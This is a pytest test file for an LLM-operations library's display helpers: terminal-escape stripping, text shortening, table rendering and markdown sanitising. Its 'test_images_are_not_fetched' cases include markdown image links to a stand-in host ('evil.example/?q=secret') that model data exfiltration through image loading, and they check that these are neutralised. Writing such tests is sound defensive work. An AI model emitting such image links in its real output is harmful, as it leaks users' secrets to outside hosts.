from __future__ import annotations

from typing import TYPE_CHECKING

import pytest
from hypothesis import given
from hypothesis import strategies as st

from llmops_kernel.display import Cell, one_line, printable, safe_markdown, shorten, table
from llmops_kernel.display.markdown import fence
from llmops_kernel.display.text import markup, pad, width

if TYPE_CHECKING:
    from collections.abc import Callable

DASH = "\N{EN DASH}"
# st.text() leaves surrogates out; a model's JSON escapes can bring them in.
ANY_TEXT = st.text(st.characters(exclude_categories=()))


@given(ANY_TEXT)
def test_printable_text_can_be_stored_and_moves_no_cursor(text: str) -> None:
    shown = printable(text)
    shown.encode("utf-8")
    assert not any(ord(c) < 32 and c not in "\t\n" for c in shown)
    assert "\x7f" not in shown
    assert printable(shown) == shown


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("\x1b[31mred\x1b[0m", "red"),
        ("\x1b]0;title\x07text", "text"),
        ("\x1b]8;;http://a\x1b\\link", "link"),
        ("a\r\nb", "a\nb"),
        ("50%\r100%", "50%100%"),
        ("\ud800", "\ufffd"),
    ],
)
def test_terminal_sequences_are_dropped(text: str, shown: str) -> None:
    assert printable(text) == shown


def test_shortening_says_how_much_is_missing() -> None:
    assert shorten("abc", 3) == "abc"
    assert shorten("x" * 2_000, 10) == "x" * 10 + "… (1,990 more characters)"
    assert one_line("a\n\n  b") == "a b"
    assert one_line("word " * 100, 10) == "word word…"


@given(ANY_TEXT, st.integers(2, 40))
def test_one_line_is_one_bounded_line(text: str, limit: int) -> None:
    line = one_line(text, limit)
    assert len(line) <= limit
    assert "\n" not in line


def test_wide_characters_take_two_columns() -> None:
    assert width("日本") == 4
    assert width("e\u0301") == 1
    assert pad("日", 4) == "日  "
    assert pad("7", 3, right=True) == "  7"


@given(ANY_TEXT, ANY_TEXT, ANY_TEXT)
def test_every_value_of_a_table_is_escaped(
    text_of: Callable[[str], str], column: str, cell: str, caption: str
) -> None:
    html, plain = table([column, "n"], [[cell, 1]], caption)
    shown = text_of(html)
    for value in (column, cell, caption):
        assert printable(value) in shown
    assert len(plain.removeprefix(printable(caption) + "\n").split("\n")) == 3


def test_a_table_is_semantic_and_aligned() -> None:
    html, plain = table(
        ["Model", "Calls"], [["sim/gpt-4o", 7], ["offline", 1_000], ["none", None]], "Use & cost"
    )
    assert "<caption>Use &amp; cost</caption>" in html
    assert html.count('<th scope="col"') == 2
    # Front ends align cells to the right, which suits figures and no words.
    left = ' style="text-align:left"'
    assert f'<tr><th scope="row"{left}>sim/gpt-4o</th><td>7</td></tr>' in html
    assert f'<th scope="col"{left}>Model</th><th scope="col">Calls</th>' in html
    assert plain.split("\n") == [
        "Use & cost",
        "Model       Calls",
        "----------  -----",
        "sim/gpt-4o      7",
        "offline      1000",
        f"none            {DASH}",
    ]


def test_trusted_cells_and_empty_tables(text_of: Callable[[str], str]) -> None:
    html, plain = table(["A"], [[Cell("82 %", "<strong>82 %</strong>")]], "T")
    assert "<strong>82 %</strong>" in html
    assert plain.endswith("82 %")
    html, plain = table(["A", "B"], [], "T")
    assert "none" in text_of(html)
    assert plain.endswith("none")


def test_rows_must_fit_the_columns() -> None:
    with pytest.raises(ValueError, match="a row of 1 cells"):
        table(["A", "B"], [["a"]], "T")


@pytest.mark.parametrize(
    "text",
    [
        "![a](https://evil.example/?q=secret)",
        "![a\nb](https://evil.example)",
        "![a][b]\n\n[b]: https://evil.example",
        "![b]\n\n> [b]: https://evil.example",
        "```\n![a](https://evil.example)",
        "![a[b]](//evil.example)",
    ],
)
def test_images_are_not_fetched(text: str) -> None:
    shown = safe_markdown(text)
    assert "![" not in shown
    assert shown.replace("\N{WORD JOINER}", "") == text


@pytest.mark.parametrize(
    "tag", ["img src=//e", "IMG src=x", "video poster=//e", "iframe", "script", "style", "/form"]
)
def test_elements_that_load_or_run_are_shown_as_text(tag: str) -> None:
    assert safe_markdown(f"a <{tag}> b") == f"a <\N{WORD JOINER}{tag}> b"


@pytest.mark.parametrize(
    "text",
    [
        "# Fees\n\n- **free**, see [the list](https://example.com) <b>now</b>\n",
        "if (![1].length) {}",
        "a < b and b > c",
    ],
)
def test_other_markdown_is_left_alone(text: str) -> None:
    assert safe_markdown(text) == text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("It costs $5 and then $10.50.", r"It costs \$5 and then \$10.50."),
        ("$1,000", r"\$1,000"),
        ("`$5` and\n```\necho $5\n```\n$5", "`$5` and\n```\necho $5\n```\n\\$5"),
        ("$x + 5$ and $5x$", "$x + 5$ and $5x$"),
        (r"\$5", r"\$5"),
        ("US$5", "US$5"),
    ],
)
def test_amounts_are_no_formulas(text: str, shown: str) -> None:
    assert safe_markdown(text) == shown


@given(st.text("`~ab\n", max_size=40))
def test_a_fence_holds_any_text(text: str) -> None:
    first, *body, last = fence(text, "json").split("\n")
    assert "\n".join(body) == text
    assert first == f"{last}json"
    assert set(last) == {"`"}
    assert last not in text


@given(ANY_TEXT)
def test_markup_has_no_special_characters(text: str) -> None:
    assert not set(markup(text)) & set("<>\"'")
